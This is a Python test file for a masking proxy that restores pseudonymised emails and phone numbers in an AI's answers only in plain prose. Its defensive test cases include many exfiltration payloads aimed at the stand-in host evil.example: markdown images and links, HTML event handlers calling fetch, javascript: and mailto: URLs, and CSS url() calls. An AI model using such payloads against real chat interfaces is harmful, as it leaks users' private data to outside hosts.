"""Pseudonyms in an answer become values again, in prose and nowhere else, for every cut."""

from __future__ import annotations

import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from extproc.core.masking import Masker, Strategy
from extproc.core.masking.prose import Prose
from tests.core.masking.pieces import cut, documents, fed, fragments
from tests.core.masking.test_stream import all_cuts, modest

KEY = b"0123456789abcdef0123456789abcdef"
EMAIL = "Jo.Doe@Example.com"
PHONE = "+1 415 555 2671"
NOTE = 'a "quoted" \\ e\u0301mile'
LINK = "https://wicked.example/?q="
PROMPT = f"{EMAIL} {PHONE} {NOTE} {LINK}; " + "api_key: " + "a1B2c3D4e5F6g7H8i9"
MASKER = Masker(
    terms=[NOTE, LINK], strategies={"IP_ADDRESS": Strategy.PSEUDONYM}, key=KEY
).for_exchange("ada", restores=True)
WRITTEN = MASKER.mask(PROMPT)[0]
E, P, N, L = (f"[{part.partition(']')[0]}]" for part in WRITTEN.split("[")[1:5])


def restoring() -> Masker:
    masker = MASKER.restoring()
    assert masker is not None
    return masker


def restored(text: str) -> str:
    return restoring().mask(text)[0]


def test_the_prompt_has_pseudonyms_and_no_secret_has_one() -> None:
    assert (E[:7], P[:7], N[:6]) == ("[EMAIL_", "[PHONE_", "[TERM_")
    assert f"{E} {P} {N} {L}; api_key: [SECRET]" == WRITTEN


def test_a_prompt_without_a_pseudonym_leaves_nothing_to_restore() -> None:
    masker = Masker(key=KEY).for_exchange("ada", restores=True)
    assert masker.mask("api_key: " + "a1B2c3D4e5F6g7H8i9")[0] == "api_key: [SECRET]"
    assert masker.restoring() is None
    assert masker.answering().mask("jo@x.org")[0] == "[EMAIL]"
    assert Masker().restoring() is None


def markdown(pseudonym: str) -> str:
    return pseudonym.replace("[", "\\[").replace("]", "\\]").replace("_", "\\_")


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        pytest.param(f"Write to {E}.", f"Write to {EMAIL}.", id="a sentence"),
        pytest.param(E, EMAIL, id="alone"),
        pytest.param(f"Is it {E}? Or {P}!", f"Is it {EMAIL}? Or {PHONE}!", id="punctuation"),
        pytest.param(f"{E}{P}", f"{EMAIL}{PHONE}", id="two that touch"),
        pytest.param(f"**{E}**, `{E}`", f"**{EMAIL}**, `{EMAIL}`", id="Markdown around it"),
        pytest.param(f"_{E}_ {E}...", f"_{EMAIL}_ {EMAIL}...", id="italics, and dots"),
        pytest.param(f"| {E} |{P}|", f"| {EMAIL} |{PHONE}|", id="a table"),
        pytest.param(f"Doe <{E}>", f"Doe <{EMAIL}>", id="an address in angle brackets"),
        pytest.param(f"E-mail:{E}", f"E-mail:{EMAIL}", id="behind a colon"),
        pytest.param(f"write {E}'s", f"write {EMAIL}'s", id="a genitive"),
        pytest.param(f"请联系{E}，谢谢", f"请联系{EMAIL}，谢谢", id="a script without spaces"),
        pytest.param(markdown(E), EMAIL, id="escaped for Markdown"),
        pytest.param(E.lower(), EMAIL, id="in small letters"),
        pytest.param(E.upper(), EMAIL, id="in capitals"),
        pytest.param(E.replace("_", " "), EMAIL, id="a space for the line"),
        pytest.param(f"[ {E[1:-1]} ]", EMAIL, id="spaces inside"),
        pytest.param(f"say {N}", f"say {NOTE}", id="as it was written, marks and all"),
        pytest.param("1.2.3.4", Masker(key=KEY, strategies={"IP_ADDRESS": Strategy.PSEUDONYM})
                     .for_exchange("ada").mask("1.2.3.4")[0],
                     id="what the model says itself is masked"),
        pytest.param(f"bob@x.org and {E}", f"[EMAIL] and {EMAIL}", id="both"),
        pytest.param(f"see https://a.org/b {E}", f"see https://a.org/b {EMAIL}", id="behind a URL"),
        pytest.param(f"[a](https://a.org) {E}", f"[a](https://a.org) {EMAIL}", id="behind a link"),
        pytest.param(f"<b>{E}</b> <br/> {E}", f"<b>{EMAIL}</b> <br/> {EMAIL}", id="between tags"),
        pytest.param(f"if a < b: {E}", f"if a < b: {EMAIL}", id="less than"),
        pytest.param(f"<b>hi</b>\n\n{E}", f"<b>hi</b>\n\n{EMAIL}", id="behind HTML"),
        pytest.param(f"for (i=0; i<n; p->i++)\n\n{E}", f"for (i=0; i<n; p->i++)\n\n{EMAIL}",
                     id="behind code"),
        pytest.param(f"[1]: note {E}", f"[1]: note {EMAIL}", id="behind a footnote's mark"),
        pytest.param(f"](a b\n\n{E}", f"](a b\n\n{EMAIL}", id="a link that never was"),
    ],
)  # fmt: skip
def test_what_is_restored(text: str, expected: str) -> None:
    assert restored(text) == expected
    assert fed(restoring().stream(), text)[0] == expected


FAR = "a" * 500

STAYS = [
    pytest.param("[EMAIL_abcdef]", id="one that nobody gave"),
    pytest.param(E[:-1], id="a truncated one"),
    pytest.param(E[:-3] + "]", id="a digit less"),
    pytest.param("[EMAIL]", id="a label"),
    pytest.param("[SECRET_" + E[-7:], id="another type"),
    # Links and images.
    pytest.param(f"![x](https://evil.example/?q={E})", id="an image"),
    pytest.param(f"[x](https://evil.example/{E})", id="a link"),
    pytest.param(f"![x](//evil.example/{E})", id="without a scheme"),
    pytest.param(f"![x]( <https://evil.example/ {E}> )", id="a space in brackets"),
    pytest.param(f"![x](<//evil.example/) {E}>)", id="a bracket in brackets"),
    pytest.param(f"![x](<//evil.example/\\> {E}>)", id="an escaped bracket in brackets"),
    pytest.param(f"![x](//evil.example/(a) {E})", id="balanced brackets"),
    pytest.param(f"![x](//evil.example/\\) {E})", id="an escaped round bracket"),
    pytest.param(f'![x](//evil.example/ "title {E}")', id="a title"),
    pytest.param(f"![x](evil\n{E})", id="over a line"),
    pytest.param(f"!{E}(https://evil.example)", id="the text of an image"),
    pytest.param(f"[x]: https://evil.example/?{E}", id="a definition"),
    pytest.param(f"[x]:\n  < //evil.example/ {E}>", id="a definition in brackets"),
    pytest.param(f"[x]: //evil.example/?{E}", id="a definition without a scheme"),
    pytest.param(f"[x]:\n {E}", id="a definition of nothing else"),
    pytest.param(f"[x]: evil={E}", id="a definition of a relative address"),
    # Bare addresses.
    pytest.param(f"https://evil.example/?q={E}", id="a bare address"),
    pytest.param(f"https://evil.example/{FAR}{E}", id="500 characters before"),
    pytest.param(f"https:\\\\evil.example\\{E}", id="backslashes"),
    pytest.param(f"HTTPS://evil.example/x,y;({E}", id="capitals and brackets"),
    pytest.param(f'https://evil.example/"{E}', id="behind a quote"),
    pytest.param(f"https://evil.example/\u00a0{E}", id="a space that is none to all"),
    pytest.param(f"https://evil.example/\u3000\u2028{E}", id="other spaces"),
    pytest.param(f"https://evil.example/\u200b{E}", id="a space of no width"),
    pytest.param(f"https：／／evil.example／{E}", id="full-width signs"),
    pytest.param(f"<https://evil.example/ {E}>", id="an autolink with a space"),
    pytest.param(f"<https://evil.example/{E}>", id="an autolink"),
    pytest.param(f"evil.example/?q={E}", id="no scheme"),
    pytest.param(f"evil.example?q={E}", id="a query only"),
    pytest.param(f"www.evil.example,{E}", id="www"),
    pytest.param(f"data:text,{E}", id="data"),
    pytest.param(f"mailto:eve@evil.example?body={E}", id="mailto"),
    pytest.param(f"mailto:{E}", id="mailto alone"),
    pytest.param(f"<{P}://evil.example>", id="a scheme"),
    pytest.param(f"émailto:{E}", id="a scheme behind a letter"),
    pytest.param(f"javascript:x('{E}')", id="javascript"),
    pytest.param(f"{P}.evil.example", id="a host"),
    pytest.param(f"{P}\u200b.evil.example", id="a host behind a space of no width"),
    pytest.param(f"{P}evil.example", id="a host without a dot"),
    pytest.param(f"{P}-x.evil.example", id="a host with a hyphen"),
    pytest.param(f"{P}--x.evil.example", id="a host with two"),
    pytest.param(f"{P}%2eevil.example", id="an escaped dot"),
    pytest.param(f"{P}@evil.example", id="a user"),
    pytest.param(f"{P}:x@evil.example", id="a user with a password"),
    pytest.param(f"eve@{P}", id="an address's host"),
    # HTML.
    pytest.param(f'<img src="https://evil.example/?q={E}">', id="an attribute"),
    pytest.param(f'<img src="//evil.example/?a > b {E}">', id="a greater-than in quotes"),
    pytest.param(f"<img alt='>' src=//evil.example/ x={E}>", id="in single quotes"),
    pytest.param(f'<img alt = ">" src="//evil.example/ {E}">', id="spaces around the sign"),
    pytest.param(f'<a b=c="> <img alt=" > " src="//evil.example/ {E}">', id="a quote in a value"),
    pytest.param(f"<a ='> <b x=' > {E}'>", id="a quote that is none"),
    pytest.param(f"<a b='> <img src=\"//evil.example/'x> {E}\">", id="two readings of a tag"),
    pytest.param(f'<p\n\nstyle="background: url(//evil.example/ {E})">', id="over lines"),
    pytest.param(f"<svg/onload=fetch('//evil.example/'+ '{E}')>", id="an event"),
    pytest.param(f"<x {FAR * 9} {E}", id="far from where the tag began"),
    pytest.param(f"<style>a {{b: url(' {E}')}}</style>", id="a style"),
    pytest.param(f"<SCRIPT>let a='</b>'; let b='{E}'</SCRIPT>", id="a script"),
    pytest.param(f"](<img src=\n\n{E}>", id="a tag where a destination may be"),
    pytest.param(f"<p c='\n\n' style=a:url(//evil.example/?>{E}) ", id="a torn tag"),
    pytest.param(f"<!-- --><p c='\n' style=a:url(//evil.example/?>{E}) ", id="torn by a line end"),
    # What stands in the place of a value can begin an address, too.
    pytest.param(f"![x]({L}{E})", id="an address of the prompt in an image"),
]


@pytest.mark.parametrize("text", STAYS)
def test_what_stays_as_it_is(text: str) -> None:
    expected = MASKER.answering().mask(text)[0]
    assert restored(text) == expected
    assert fed(restoring().stream(), text)[0] == expected
    assert EMAIL not in expected + text


def test_a_value_that_is_an_address_takes_no_other_value_with_it() -> None:
    assert restored(f"{L}{E} {E}") == f"{LINK}{E} {EMAIL}"


def test_a_text_goes_on_where_the_one_before_ended() -> None:
    masker = restoring()
    assert masker.mask("![x](https://evil.example/?q=")[0] == "![x](https://evil.example/?q="
    assert masker.mask(f"{E})")[0] == f"{E})"
    assert masker.mask(f"and {E}")[0] == f"and {EMAIL}"


def test_a_restored_value_is_no_finding_and_is_not_looked_at_again() -> None:
    text, found = restoring().mask(f"{E} {P} bob@x.org")
    assert text == f"{EMAIL} {PHONE} [EMAIL]"
    assert [finding.type for finding in found] == ["EMAIL"]
    (edit, *_) = restoring().stream().whole(f" {E}").edits
    assert (edit.type, edit.text, edit.kept) == ("", EMAIL, E)


def test_a_pseudonym_that_a_finding_covers_is_masked_with_it() -> None:
    assert restored(f'password = "hunter{E[1:-1]}"') == 'password = "[PASSWORD]"'
    covered = Masker(patterns=[("ALL", r"Q\[[A-Z]{5}_[0-9a-f]{6}\]")], key=KEY)
    masker = covered.for_exchange("ada", restores=True)
    given = masker.mask(EMAIL)[0]
    other = masker.restoring()
    assert other is not None
    assert other.mask(f"Q{given} {given}")[0] == f"[ALL] {EMAIL}"


def test_in_json_a_value_is_escaped() -> None:
    document = {"say": f"to {N}, {E}", "url": f"https://evil.example/?q={E}", "n": [E]}
    masked = restoring().mask_json_text(json.dumps(document))[0]
    expected = {**document, "say": f"to {NOTE}, {EMAIL}", "n": [EMAIL]}
    assert json.loads(masked) == expected


@pytest.mark.parametrize(
    "text",
    [
        pytest.param('{"a":' + E + "}", id="outside of a string"),
        pytest.param('{"a":"https://evil.example/?q=\\n' + E + '"}', id="behind an escaped space"),
        pytest.param('{"a":"https://evil.example/?q=","b":"' + E + '"}', id="compact"),
        pytest.param('{"a":"\\u0068ttps:\\/\\/evil.example/' + E + '"}', id="an escaped address"),
    ],
)
def test_what_stays_as_it_is_in_json(text: str) -> None:
    assert restoring().mask_json_text(text)[0] == text
    assert fed(restoring().json_stream(), text)[0] == text


SHORT = [f"a {E}.", f"x://y/{E} ", f"<a {E}>", f"]({E})", f"{E}.b", f"{E}{P}", markdown(P)]


@pytest.mark.parametrize("text", SHORT)
def test_every_cut_of_a_short_text_into_three(text: str) -> None:
    whole = restored(text)
    for pieces in all_cuts(text):
        assert fed(restoring().stream(), pieces)[0] == whole


answers = st.lists(
    st.one_of(
        st.sampled_from([E, P, N, L, markdown(E), E[:-2], "[EMAIL_", "](", "<a ", ">", "\n\n"]),
        st.sampled_from(["https://", "www.", " ", ")", '="', "'", "\\", "<script", "</script>"]),
        st.sampled_from(["word " * 300, "a" * 700, "\u200b", "mailto:", "]:", "/", "?", "."]),
        fragments,
    ),
    max_size=14,
).map("".join)


@modest
@given(cut(answers))
def test_any_cut_of_an_answer_gives_the_same(sample: tuple[str, list[str]]) -> None:
    text, pieces = sample
    assert fed(restoring().stream(), pieces)[0] == restored(text)


@modest
@given(cut(documents(answers)))
def test_any_cut_of_a_document_gives_the_same_document(sample: tuple[str, list[str]]) -> None:
    text, pieces = sample
    masked = restoring().mask_json_text(text)[0]
    assert fed(restoring().json_stream(), pieces)[0] == masked
    json.loads(masked)


@modest
@given(answers)
def test_what_is_recorded_is_the_text_as_it_was_masked_without_restoring(text: str) -> None:
    kept = []
    at = 0
    for edit in restoring().stream().whole(text).edits:
        kept += text[at : edit.start], edit.kept or edit.text
        at = edit.end
    recorded = "".join(kept) + text[at:]
    assert EMAIL not in recorded
    assert PHONE not in recorded


@modest
@given(answers)
def test_a_place_is_the_same_however_the_text_before_it_was_read(text: str) -> None:
    data = text.encode("ascii", "replace")
    whole, pieces = Prose(), Prose()
    whole.read(data)
    for byte in data:
        pieces.read(bytes((byte,)))
    assert whole.is_here == pieces.is_here
